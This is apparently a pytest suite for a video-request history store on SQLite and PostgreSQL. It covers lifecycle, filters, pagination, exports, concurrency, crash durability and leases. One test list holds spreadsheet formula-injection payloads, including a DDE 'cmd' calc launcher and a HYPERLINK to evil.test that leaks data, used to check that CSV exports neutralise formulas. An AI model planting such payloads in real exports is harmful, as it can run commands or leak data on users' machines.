"""The history store on real databases (a SQLite file and a PostgreSQL server, each test on both): attempts before
sending, outcomes, filters, keyset pages, counts, exports, concurrency, durability and lookup leases."""

from __future__ import annotations

import csv
import io
import json
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
import sqlalchemy as sa

from starvideos.database import Database
from starvideos.history import EXPORT_FIELDS, HistoryFilter, HistoryStore, params_hash
from starvideos.models import TaskStatus, VideoRequest, VideoTask
from starvideos.schema import HEAD, tasks
from starvideos.showcase import Showcase
from tests.conftest import run_in_threads

ROOT = Path(__file__).resolve().parents[1]


def test_durability_settings(store: HistoryStore) -> None:
    """Test that SQLite runs in WAL with synchronous=FULL, and both databases are at the newest schema."""
    store.record_attempt(VideoRequest("cat"))
    with store.db.read() as conn:
        assert conn.execute(sa.text("SELECT version_num FROM alembic_version")).scalar() == HEAD
        if store.db.dialect == "sqlite":
            assert conn.exec_driver_sql("PRAGMA journal_mode").scalar() == "wal"
            assert conn.exec_driver_sql("PRAGMA synchronous").scalar() == 2  # FULL


def test_attempt_lifecycle(store: HistoryStore) -> None:
    """Test that an attempt is stored before sending, with its body as sent, then settled with the task."""
    request = VideoRequest("  a cat  ", duration=7, ratio="9:16", images=("https://e.com/a.png",))
    rid = store.record_attempt(request, session_id="s1", created_by="ann@team.test")
    row = store.get(rid)
    assert row is not None
    assert (row.status, row.task_id, row.prompt, row.mode, row.images, row.session_id, row.created_by) == (
        TaskStatus.SENDING, None, "a cat", "image", ["https://e.com/a.png"], "s1", "ann@team.test")
    assert row.payload == {"prompt": "a cat", "model": "starvideos_v3", "duration": 7, "ratio": "9:16",
                           "images": ["https://e.com/a.png"]}
    store.mark_created(rid, VideoTask("video_1", TaskStatus.QUEUED, created=1774836724, raw={"id": "video_1"}))
    assert store.get(rid).status == "queued" and store.get(rid).remote_created == 1774836724
    assert store.update_task(VideoTask("video_1", TaskStatus.COMPLETED, video_url="https://e.com/v.mp4",
                                       raw={"id": "video_1", "status": "completed"}))
    final = store.get_by_task_id("video_1")
    assert final is not None and final.id == rid
    assert (final.status, final.video_url, final.raw) == ("completed", "https://e.com/v.mp4",
                                                           {"id": "video_1", "status": "completed"})
    assert final.finished_at is not None and not final.is_live
    assert final.request == VideoRequest("a cat", "starvideos_v3", 7, "9:16", ("https://e.com/a.png",))
    assert store.update_task(VideoTask("nope", TaskStatus.FAILED)) is False


def test_rejected_unknown_and_attach(store: HistoryStore) -> None:
    """Test that rejected and unknown outcomes keep the request and error; an id can be attached later."""
    a = store.record_attempt(VideoRequest("a"))
    b = store.record_attempt(VideoRequest("b"))
    store.mark_rejected(a, "HTTP 400 Bad Request: nope")
    store.mark_unknown(b, "timed out")
    assert (store.get(a).status, store.get(a).error) == (TaskStatus.REJECTED, "HTTP 400 Bad Request: nope")
    assert (store.get(b).status, store.get(b).error, store.get(b).is_live) == (
        TaskStatus.OUTCOME_UNKNOWN, "timed out", False)
    store.attach_task_id(b, " video_found ")
    row = store.get(b)
    assert (row.task_id, row.status, row.error, row.is_live) == ("video_found", "unknown", None, True)
    assert [r.task_id for r in store.live()] == ["video_found"]


def test_filters_pagination_and_count(store: HistoryStore) -> None:
    """Test the filters (status, mode, text, session, creator) and keyset pages, newest first."""
    for i in range(30):
        images = () if i % 3 == 0 else ("https://e.com/a.png",) if i % 3 == 1 else ("https://e.com/a.png",) * 2
        rid = store.record_attempt(VideoRequest(f"prompt {i} {'Dog' if i % 2 else 'cat'}", images=images),
                                   session_id="me" if i < 10 else "other",
                                   created_by="ann@team.test" if i % 4 == 0 else None)
        store.mark_created(rid, VideoTask(f"video_{i}", TaskStatus.COMPLETED if i % 5 == 0 else TaskStatus.QUEUED))
    page1 = store.list(limit=12)
    page2 = store.list(limit=12, before_id=page1[-1].id)
    page3 = store.list(limit=12, before_id=page2[-1].id)
    ids = [r.id for r in page1 + page2 + page3]
    assert ids == sorted(ids, reverse=True) and len(set(ids)) == 30 and len(page3) == 6
    assert store.count(HistoryFilter(statuses=["completed"])) == 6
    assert store.count(HistoryFilter(modes=["first_last"])) == 10
    assert store.count(HistoryFilter(text="dog")) == 15  # case-insensitive on both databases
    assert store.count(HistoryFilter(text="video_2")) == 11  # task id matches too: 2, 20-29
    assert store.count(HistoryFilter(session_id="me")) == 10
    assert store.count(HistoryFilter(created_by="ann@team.test")) == 8
    assert store.count(HistoryFilter(statuses=["queued"], modes=["text"], text="cat", session_id="other")) == 3
    assert store.count(HistoryFilter(text="100%_")) == 0  # LIKE wildcards are escaped
    assert [r.prompt for r in store.list(HistoryFilter(text="PROMPT 2 C"), limit=5)] == ["prompt 2 cat"]


def test_kept_counts_match_a_real_count(store: HistoryStore) -> None:
    """Test that the trigger-kept counts equal COUNT(*) after inserts, status changes, removals and restores."""
    ids = [store.record_attempt(VideoRequest(f"c{i}")) for i in range(12)]
    for i, rid in enumerate(ids[:8]):
        store.mark_created(rid, VideoTask(f"video_c{i}", TaskStatus.QUEUED))
    store.update_task(VideoTask("video_c0", TaskStatus.COMPLETED))
    store.update_task(VideoTask("video_c0", TaskStatus.COMPLETED))  # same status again: no double count
    store.mark_rejected(ids[8], "no")
    store.mark_unknown(ids[9], "?")
    assert store.delete(ids[1]) and store.delete(ids[10]) and store.delete(ids[3])
    assert store.restore(ids[3]) and not store.restore(ids[3])
    with store.db.read() as conn:
        rows = conn.execute(sa.select(tasks.c.status).where(tasks.c.deleted_at.is_(None))).scalars().all()
    for statuses in [(), ("queued",), ("completed", "sending"), ("rejected", "outcome_unknown", "failed")]:
        expected = sum(1 for status in rows if not statuses or status in statuses)
        assert store.count(HistoryFilter(statuses=statuses)) == expected, statuses
    assert store.count() == 10 and len(store.list(limit=50)) == 10
    assert store.get(ids[1]) is None and store.get(ids[3]) is not None


def test_recent_duplicate(store: HistoryStore) -> None:
    """Test that the same body within the window is found; rejected attempts and other bodies are not."""
    request = VideoRequest("cat", duration=6)
    assert store.recent_duplicate(request) is None
    rid = store.record_attempt(request)
    assert store.recent_duplicate(VideoRequest(" cat ", duration=6)).id == rid
    assert store.recent_duplicate(VideoRequest("cat", duration=7)) is None
    assert store.recent_duplicate(request, within_seconds=-1) is None
    store.mark_rejected(rid, "bad")
    assert store.recent_duplicate(request) is None


def test_exports_stream_iso_times_without_internals(store: HistoryStore) -> None:
    """Test CSV and JSON exports: filtered, ISO 8601 times, no session ids or raw answers, formulas neutralised."""
    rid = store.record_attempt(VideoRequest("=HYPERLINK(\"x\")", images=("https://e.com/a.png",)),
                               session_id="secret-session", created_by="ann@team.test")
    store.mark_created(rid, VideoTask("video_1", TaskStatus.QUEUED, created=1774836724, raw={"token": "raw"}))
    store.record_attempt(VideoRequest("plain"))
    out = io.StringIO()
    assert store.write_csv(out, HistoryFilter(modes=["image"])) == 1
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["prompt"] == "'=HYPERLINK(\"x\")" and row["task_id"] == "video_1"
    assert row["images"] == "https://e.com/a.png" and row["created_by"] == "ann@team.test"
    assert row["remote_created"] == "2026-03-30T02:12:04+00:00"
    assert row["attempted_at"].endswith("+00:00") and "T" in row["attempted_at"]
    assert "session_id" not in row and "raw" not in row and "secret-session" not in out.getvalue()
    out = io.StringIO()
    assert store.write_json(out) == 2
    data = json.loads(out.getvalue())
    assert [d["prompt"] for d in data] == ["plain", "=HYPERLINK(\"x\")"]
    assert "token" not in out.getvalue()
    empty = io.StringIO()
    assert store.write_json(empty, HistoryFilter(text="nothing like this")) == 0 and json.loads(empty.getvalue()) == []


HOSTILE = ["great take;=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.test/?leak","open")', "fine,+1+1",
           "tab\t@SUM(A1:A9)", "line\n-2+3", 'quoted;"=1+1"', "x ;  =spaced out", "commas, -10, @ok"]


def split_many(text: str, separators: str) -> list[str]:
    """Cells as LibreOffice's import dialog splits them with several separators ticked at once (quotes honoured)."""
    cells, cell, quoted, start, i = [], "", False, True, 0
    while i < len(text):
        ch = text[i]
        if quoted and ch == '"' and text[i + 1:i + 2] == '"':
            cell, i = cell + '"', i + 2
            continue
        if ch == '"' and (quoted or start):
            quoted = not quoted
        elif not quoted and (ch in separators or ch in "\r\n"):
            cells.append(cell)
            cell, start, i = "", True, i + 1
            continue
        else:
            cell += ch
        start, i = False, i + 1
    return [*cells, cell]


def spreadsheet_cells(text: str) -> dict[str, list[str]]:
    """Every cell of the export, each way a spreadsheet may split it: honouring quotes with "," (Excel and
    LibreOffice where the list separator is a comma), ";" (where it is a semicolon), a tab, or all three at once
    (LibreOffice's dialog); and ignoring quotes on each (a text import with no text qualifier)."""
    ways = {f"quotes, {sep!r}": [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep) for c in row]
            for sep in (",", ";", "\t")}
    ways["quotes, all three"] = split_many(text, ",;\t")
    for sep in (",", ";", "\t"):
        ways[f"no quotes, {sep!r}"] = re.split(f"[{sep}\r\n]", text)
    return ways


def test_no_part_of_a_csv_cell_runs_as_a_formula_in_either_locale(store: HistoryStore) -> None:
    """Test that with prompts, comments and errors carrying formulas after a ; , tab or line break, every field of
    the CSV export is quoted and no cell starts with = + - @ however Excel or LibreOffice split it, in a comma or a
    semicolon locale; reading it as written gives the text back with a ' before each formula."""
    showcase = Showcase(store.db)
    for text in HOSTILE:
        rid = store.record_attempt(VideoRequest(text))
        store.mark_rejected(rid, f"API said: {text}")
        showcase.comment(rid, "Mallory", text)
        showcase.rate(rid, "mallory", 1)
    out = io.StringIO()
    assert store.write_csv(out) == len(HOSTILE)
    exported = out.getvalue()
    for way, cells in spreadsheet_cells(exported).items():
        for cell in cells:
            assert cell.strip().lstrip('"').strip()[:1] not in ("=", "+", "-", "@"), (way, cell)
    rows = list(csv.reader(io.StringIO(exported, newline=""), quoting=csv.QUOTE_NONNUMERIC))
    assert rows[0] == list(EXPORT_FIELDS)
    assert all(isinstance(value, str) for row in rows for value in row)  # an unquoted field would read as a number
    by_prompt = {row["prompt"]: row for row in csv.DictReader(io.StringIO(exported, newline=""))}
    assert set(by_prompt) == {
        "great take;'=cmd|' /C calc'!A0", '\'=HYPERLINK("http://evil.test/?leak","open")', "fine,'+1+1",
        "tab\t'@SUM(A1:A9)", "line\n'-2+3", 'quoted;"\'=1+1"', "x ;  '=spaced out", "commas, '-10, '@ok"}
    row = by_prompt["great take;'=cmd|' /C calc'!A0"]
    assert row["comments"] == "Mallory: great take;'=cmd|' /C calc'!A0"
    assert row["error"] == "API said: great take;'=cmd|' /C calc'!A0" and row["rating"] == "1.0"
    out = io.StringIO()
    store.write_json(out)  # JSON keeps the text exactly: it is not opened by spreadsheets
    assert sorted(r["prompt"] for r in json.loads(out.getvalue())) == sorted(HOSTILE)


def test_export_walks_every_batch(store: HistoryStore, monkeypatch: pytest.MonkeyPatch) -> None:
    """Test that an export larger than one batch has every row once, newest first."""
    monkeypatch.setattr("starvideos.history._EXPORT_BATCH", 7)
    ids = [store.record_attempt(VideoRequest(f"row {i}")) for i in range(23)]
    assert [row["id"] for row in store.export_rows()] == ids[::-1]


@pytest.mark.serial
def test_twenty_threads_write_at_once(store: HistoryStore) -> None:
    """Test that 20 threads recording and settling attempts at once lose nothing."""
    def work(n: int) -> None:
        for i in range(25):
            rid = store.record_attempt(VideoRequest(f"t{n}-{i}"), session_id=f"s{n}")
            store.mark_created(rid, VideoTask(f"video_{n}_{i}", TaskStatus.QUEUED))

    assert run_in_threads(work, 20) == []
    assert store.count() == 500 and store.count(HistoryFilter(statuses=["queued"])) == 500
    assert store.count(HistoryFilter(session_id="s7")) == 25


def test_two_connections_share_the_database(db_url: str) -> None:
    """Test that a second engine (another replica's view) sees committed rows and can write too."""
    a, b = HistoryStore(Database(db_url)), HistoryStore(Database(db_url))
    a.record_attempt(VideoRequest("from a"))
    b.record_attempt(VideoRequest("from b"))
    assert [r.prompt for r in a.list()] == ["from b", "from a"]
    a.close()
    b.close()


CHILD = """
import sys, time
sys.path.insert(0, {root!r})
from starvideos.database import Database
from starvideos.history import HistoryStore
from starvideos.models import VideoRequest, VideoTask, TaskStatus
store = HistoryStore(Database({url!r}))
for i in range(50):
    rid = store.record_attempt(VideoRequest(f"killed {{i}}"))
    store.mark_created(rid, VideoTask(f"video_k{{i}}", TaskStatus.QUEUED))
print("committed", flush=True)
store.record_attempt(VideoRequest("in flight"))
time.sleep(60)
"""


def test_sigkill_after_commit_loses_nothing(db_url: str) -> None:
    """Test that rows committed by a process killed with SIGKILL are all there afterwards."""
    child = subprocess.Popen([sys.executable, "-c", CHILD.format(root=str(ROOT), url=db_url)],
                             stdout=subprocess.PIPE, text=True)
    observer = HistoryStore(Database(db_url))
    try:
        assert child.stdout is not None and child.stdout.readline().strip() == "committed"
        deadline = time.monotonic() + 10
        while observer.count() < 51 and time.monotonic() < deadline:
            time.sleep(0.02)
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait()
    assert child.returncode == -signal.SIGKILL
    store = HistoryStore(Database(db_url))
    assert store.count() == 51
    assert {r.task_id for r in store.list(limit=100) if r.task_id} == {f"video_k{i}" for i in range(50)}
    if store.db.dialect == "sqlite":
        with store.db.read() as conn:
            assert conn.exec_driver_sql("PRAGMA integrity_check").scalar() == "ok"
    store.close()
    observer.close()


def make_live(store: HistoryStore, count: int) -> list[str]:
    ids = []
    for i in range(count):
        rid = store.record_attempt(VideoRequest(f"live {i}"))
        store.mark_created(rid, VideoTask(f"video_live_{i}", TaskStatus.QUEUED))
        ids.append(f"video_live_{i}")
    return ids


def test_lookup_leases_are_exclusive_and_lapse(store: HistoryStore) -> None:
    """Test that two owners never hold the same task, a lease lapses by itself, and force ignores due times."""
    ids = make_live(store, 5)
    first = store.claim_lookups("replica-a", limit=3, lease_seconds=0.5)
    second = store.claim_lookups("replica-b", limit=10, lease_seconds=30)
    assert len(first) == 3 and len(second) == 2 and not set(first) & set(second)
    assert store.claim_lookups("replica-c", limit=10, lease_seconds=30) == []
    time.sleep(0.6)  # replica-a "died": its leases lapse
    assert sorted(store.claim_lookups("replica-c", limit=10, lease_seconds=30)) == sorted(first)
    store.release_lookups("replica-b", second)
    store.update_task(VideoTask(second[0], TaskStatus.PROCESSING), next_lookup_at=time.time() + 3600)
    assert store.claim_lookups("replica-d", limit=10, lease_seconds=30) == [second[1]]  # the other is not due
    store.release_lookups("replica-d", [second[1]])
    assert store.claim_lookups("replica-d", limit=10, lease_seconds=30, task_ids=[second[0]], force=True) == [second[0]]
    assert set(ids) == set(first) | set(second)


def test_claims_take_the_most_overdue_first(store: HistoryStore) -> None:
    """Test that due tasks are claimed in order of how long they have waited."""
    ids = make_live(store, 4)
    now = time.time()
    for offset, task_id in zip((-10, -40, -20, -30), ids, strict=True):
        store.update_task(VideoTask(task_id, TaskStatus.PROCESSING), next_lookup_at=now + offset)
    assert store.claim_lookups("a", limit=4, lease_seconds=30) == [ids[1], ids[3], ids[2], ids[0]]


@pytest.mark.serial
def test_concurrent_claims_hand_out_each_task_once(store: HistoryStore) -> None:
    """Test that 8 threads claiming at once get 40 tasks between them, each exactly once."""
    make_live(store, 40)
    claimed: list[list[str]] = [[] for _ in range(8)]

    def work(n: int) -> None:
        for _ in range(10):
            claimed[n] += store.claim_lookups(f"owner-{n}", limit=3, lease_seconds=60)

    assert run_in_threads(work, 8) == []
    everything = [task for part in claimed for task in part]
    assert len(everything) == 40 and len(set(everything)) == 40


def test_stale_sends_become_outcome_unknown(store: HistoryStore) -> None:
    """Test that an attempt left "sending" by a dead process becomes outcome unknown, and a fresh one does not."""
    old = store.record_attempt(VideoRequest("old"))
    with store.db.write() as conn:
        conn.execute(tasks.update().where(tasks.c.id == old).values(updated_at=time.time() - 3600))
    fresh = store.record_attempt(VideoRequest("fresh"))
    assert store.settle_stale_sends(older_than=600) == 1
    assert store.get(old).status == TaskStatus.OUTCOME_UNKNOWN and "may have been created" in store.get(old).error
    assert store.get(fresh).status == TaskStatus.SENDING


def test_params_hash_is_the_body_fingerprint() -> None:
    """Test that the fingerprint ignores surrounding spaces in the prompt and sees every field."""
    assert params_hash(VideoRequest(" cat ")) == params_hash(VideoRequest("cat"))
    assert params_hash(VideoRequest("cat")) != params_hash(VideoRequest("cat", ratio="9:16"))
    assert len({params_hash(VideoRequest("cat", images=images)) for images in
                [(), ("https://e.com/a.png",), ("https://e.com/a.png", "https://e.com/b.png")]}) == 3


def test_a_stored_duration_that_is_no_number_never_crashes_a_read(store: HistoryStore) -> None:
    """Test that a record whose stored body says duration '²' (or anything else odd) reads as 0 seconds instead of
    raising where every page reads records."""
    import sqlalchemy as sa

    from starvideos.schema import tasks

    rid = store.record_attempt(VideoRequest("odd body"))
    for odd in ("²", "7.5x", None):
        with store.db.write() as conn:
            conn.execute(tasks.update().where(tasks.c.id == rid).values(
                request=sa.func.json_object("prompt", "odd body", "duration", odd) if store.db.dialect == "sqlite"
                else sa.func.json_build_object("prompt", "odd body", "duration", odd)))
        assert store.get(rid).duration == 0
